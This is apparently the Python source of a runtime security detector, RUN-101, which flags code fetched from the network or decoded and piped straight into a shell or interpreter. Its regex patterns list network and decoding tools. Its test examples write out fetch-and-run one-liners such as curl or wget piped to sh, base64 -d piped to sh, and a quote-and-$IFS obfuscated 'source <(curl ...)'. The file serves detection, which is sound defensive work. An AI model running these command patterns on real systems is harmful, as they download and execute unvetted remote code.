"""RUN-101: code is fetched or decoded and given to a shell or an interpreter at once, without becoming a file.

It sees the pipeline itself (who writes into the interpreter's input) and the command line that says it. Steps of image
builds, where this is a habit, are said softly; scripts that are kept as a file are RUN-046's.
"""

from __future__ import annotations

import re

from periderm.engines.runtime import programs
from periderm.engines.runtime.judging import Context, Detector, Interest, Verdict, shell_interest
from periderm.engines.runtime.process import Process
from periderm.engines.runtime.scene import HOST, runs, scene
from periderm.engines.runtime.situation import (
    Situation,
    code_readings,
    graded,
    may_be_told,
    situation,
    speaks,
    tool_interest,
    words,
)
from periderm.model.detector import DetectorSpec, Example
from periderm.model.event import EventKind
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

_FETCHERS = words(
    """
    curl wget aria2c fetch lwp-request GET http https xh lynx links w3m ftp tftp lftp axel nc ncat netcat nc.openbsd
    nc.traditional socat ssh
    """
)
_DECODERS = frozenset({"base64", "base32", "basenc", "xxd", "openssl", "uudecode", "gpg", "rev"})
_PASSING = words(
    """
    gunzip gzip zcat xz xzcat bunzip2 bzip2 bzcat zstd tee tr sed cat cut head tail awk mawk gawk grep pv
    """
)
# Patterns that look for one thing after another begin anew at each first thing (`(?:(?!FIRST).)*?`): time stays linear.
_SHELL = r"(?:ba|da|a|z|k|c)?sh\b"
_CODED = r"(?:python[\d.]*|perl|php|ruby|node|lua)\b"
_PATH = r"(?:[\w/.-]*/)?"
_OPTIONS = r"(?>(?:-\S++\s++)*)"
_INTO = rf"(?:(?:{_PATH}(?:sudo\s+{_OPTIONS}(?:env\s+)?|env\s+))?{_PATH}(?:busybox\s+)?{_SHELL}|{_PATH}{_CODED})"
_GET = r"\b(?:curl|wget|aria2c|lynx|fetch|nc|ncat|GET)\b"
_KEYED = r"(?:openssl\s+(?:enc|base64|aes)|basenc\s)"
_DECODE = (
    r"\b(?:base64\s+(?:-\w*[dD]\w*|--decode)|base32\s+-\w*d|xxd\s+-\w*r|uudecode|rev"
    rf"|(?>openssl\s+(?:enc|base64|aes)(?:(?!{_KEYED})[^|;])*\s-d\b)|(?>basenc\s(?:(?!{_KEYED})[^|;])*-d\b))\b"
)
_READS = rf"(?:sh\b|{_CODED})\s+(?:-c\s+)?[\"']?"  # what stands before the name may be anything
_OPENS = rf"(?:{_READS}(?:<\(|<<<\s*[\"']?\$\(|\$\(|`)|(?:\beval\b|\bsource\b)\s+[\"']?(?:<\(|\$\(|`))"
_FETCHED = re.compile(
    rf"{_GET}(?:(?!{_GET})[^;\n])*?\|\s*(?:{_INTO})(?!\s*-c)|{_READS}(?:<\(|\$\(|`)\s*{_GET}|"
    rf"(?:\beval\b|\bsource\b|(?:^|[;&|\s])\.)\s+[\"']?(?:<\(|\$\(|`)\s*{_GET}"
)
_DECODED = re.compile(rf"{_DECODE}(?:(?!{_DECODE})[^;\n])*?\|\s*{_INTO}|{_OPENS}(?:(?!{_OPENS})[^)`])*?{_DECODE}")
_CODE = re.compile(
    r"\b(?:exec|eval|compile|system|assert)\b.{0,80}(?:urlopen|requests\.get|urllib|open-uri|file_get_contents\(.?.?https?:|LWP::)|"
    r"(?:exec|eval|assert)\b.{0,60}(?:b64decode|base64_decode|decode_base64|fromhex|unhexlify|zlib\.decompress|gzinflate|"
    r"marshal\.loads|Buffer\.from\(|unpack\b|\.decode64|codecs\.decode)|(?:b64decode|base64_decode).{0,200}\bexec\b",
    re.DOTALL,
)
_MOST = 4  # programs in a pipeline that are looked through


def _judge(context: Context) -> Verdict | None:
    if context.event.kind is not EventKind.EXEC or context.process.runtime:
        return None
    found = _by_pipe(context) or (None if speaks(context) else _by_line(context))
    if found is None:
        return None
    how, decoded = found
    here = situation(context)
    severity = graded(context, intruder=Severity.HIGH, session=Severity.HIGH, own=Severity.HIGH, start=Severity.MEDIUM,
                      build=Severity.LOW, host=Severity.MEDIUM)  # fmt: skip
    if decoded and here in (Situation.START, Situation.HOST):
        severity = Severity.HIGH
    return Verdict(
        object=context.process.exe,
        severity=severity,
        fill={"how": how},
        evidence={"how": how, "situation": here.value},
        techniques=("T1140", "T1059.004", "T1132") if decoded else ("T1105", "T1059.004"),
    )


def _by_pipe(context: Context) -> tuple[str, bool] | None:
    """An interpreter with nothing to read but its input, and who writes into that, whichever of them was started last."""
    end: Process | None = context.process
    for _ in range(_MOST):
        if end is None or _reads_input(end):
            break
        end = context.fed_of(end) if _passes(end) else None
    if end is None or not _reads_input(end):
        return None
    chain: list[str] = [programs.command(end.exe, end.argv).name]
    process = context.feeder_of(end)
    for _ in range(_MOST):
        if process is None:
            return None
        what = programs.command(process.exe, process.argv)
        chain.insert(0, what.name)
        if what.name in _FETCHERS:
            return " | ".join(chain), False
        if what.name in _DECODERS and _decodes(what):
            return " | ".join(chain), True
        if what.name not in _PASSING:
            return None
        process = context.feeder_of(process)
    return None


def _passes(process: Process) -> bool:
    """A fetcher, a decoder, or what only hands on."""
    what = programs.command(process.exe, process.argv)
    return what.name in _FETCHERS or what.name in _PASSING or (what.name in _DECODERS and _decodes(what))


def _decodes(what: programs.Command) -> bool:
    if what.name in ("rev", "uudecode"):
        return True
    letters = {"xxd": "r", "openssl": "d", "gpg": "d"}.get(what.name, "dD")
    return any(
        a.startswith("-") and (a.startswith("--dec") or a == "--revert" or any(c in a[1:4] for c in letters))
        for a in what.arguments
    )


def _reads_input(process: Process) -> bool:
    what = programs.command(process.exe, process.argv)
    if programs.is_shell(what) or process.copied_shell:
        given = any(a[:1] in "-+" and a[:2] != "--" and "c" in a for a in what.arguments if a)
        return not given and (not programs.script(what) or "-s" in what.arguments or "/dev/stdin" in what.arguments)
    if not programs.interpreter(what.name):
        return False
    told = any(a in ("-c", "-e", "-m", "-r", "-p", "--eval") or a.startswith("-c") for a in what.arguments)
    return not told and (not programs.script(what) or "/dev/stdin" in what.arguments)


def _by_line(context: Context) -> tuple[str, bool] | None:
    """What the command line says, also behind quotes and encodings."""
    what = context.command
    shell = programs.is_shell(what) or context.process.copied_shell
    if not shell and not programs.interpreter(what.name):
        return None
    if programs.script(what):
        return None
    for text in code_readings(context):
        if shell and _DECODED.search(text):
            return "decode | shell", True
        if shell and _FETCHED.search(text):
            return "fetch | shell", False
        if not shell and (found := _CODE.search(text)) is not None:
            return f"{what.name}: code", "64" in found[0] or "hex" in found[0] or "zlib" in found[0]
    return None


DETECTOR = Detector(
    spec=DetectorSpec(
        id="RUN-101",
        title=Text("Run code straight from the network or an encoding", "直接运行下载或解码得到的代码"),
        message=Text(
            "{process} in {subject} runs code that was fetched or decoded just now ({how}).",
            "{subject} 中的 {process} 运行了刚刚下载或解码的代码（{how}）。",
        ),
        severity=Severity.HIGH,
        maturity=Maturity.STABLE,
        remediation=Text(
            "Find out what the code did: it left no file. Put what a container needs into its image, checked by digest, and "
            "cut the way out that it came by.",
            "查明该代码做了什么：它没有留下文件。容器所需的内容应经摘要校验后放进镜像，并切断其到来的网络出口。",
        ),
        techniques=("T1105", "T1140", "T1059.004", "T1132"),
        behaviours=(46,),
        fires=(
            Example(
                scene(
                    runs(2, 900, "/usr/bin/curl", "curl", "-fsSL", "http://198.51.100.7/i", pipes=(0, 5)),
                    runs(3, 900, "/usr/bin/bash", "bash", pipes=(5, 0)),
                ),
                "curl | bash, two processes that a terminal started",
            ),
            Example(
                scene(runs(2, 1, "/bin/busybox", "sh", "-c", "wget -qO- http://10.9.9.9/x|sh -s -- a")), "busybox wget | sh"
            ),
            Example(scene(runs(2, 1, "/usr/bin/dash", "sh", "-c", "echo aWQK | base64 -d | sh")), "base64 -d | sh"),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/base64", "base64", "--decode", pipes=(4, 5)),
                    runs(3, 1, "/usr/bin/python3.11", "python3", "-", pipes=(5, 0)),
                ),
                "decoded code goes into Python",
            ),
            Example(
                scene(runs(2, 1, "/usr/bin/bash", "bash", "-c", "source <(c'u'rl${IFS}-s h.example/x)")), "quotes and $IFS"
            ),
            Example(
                scene(runs(2, 1, "/usr/bin/python3", "python3", "-c", "exec(__import__('base64').b64decode('aWQ='))")),
                "Python runs what base64 holds",
            ),
            Example(scene(runs(20, 1, "/usr/bin/bash", "bash", "-c", "bash <(wget -O- h.example/x)", on=HOST)), "on the host"),
        ),
        quiet=(
            Example(scene(runs(2, 1, "/usr/bin/bash", "bash", "-c", "curl -s localhost/health | grep ok")), "a health check"),
            Example(scene(runs(2, 1, "/usr/bin/dash", "sh", "-c", "echo $KEY | base64 -d > /run/key")), "a secret is unpacked"),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/curl", "curl", "-s", "http://api/v1", pipes=(0, 5)),
                    runs(3, 1, "/usr/bin/python3.11", "python3", "-m", "json.tool", pipes=(5, 0)),
                ),
                "Python prints what an API answered",
            ),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/curl", "curl", "-s", "http://api/v1", pipes=(0, 5)),
                    runs(3, 1, "/usr/bin/dash", "sh", "report.sh", pipes=(5, 0)),
                ),
                "a script reads data",
            ),
            Example(scene(runs(2, 1, "/usr/bin/grep", "grep", "-r", "curl x | sh", "/srv")), "somebody searches for it"),
        ),
    ),
    interests=(
        shell_interest(actor=may_be_told),
        tool_interest(_FETCHERS | _DECODERS | _PASSING),
        Interest(
            kinds=(EventKind.EXEC,),
            text=(r"(^|/)(python|pypy|perl|ruby|php|node|lua)[0-9.]*$",),
            actor=may_be_told,
        ),
    ),
    judge=_judge,
)
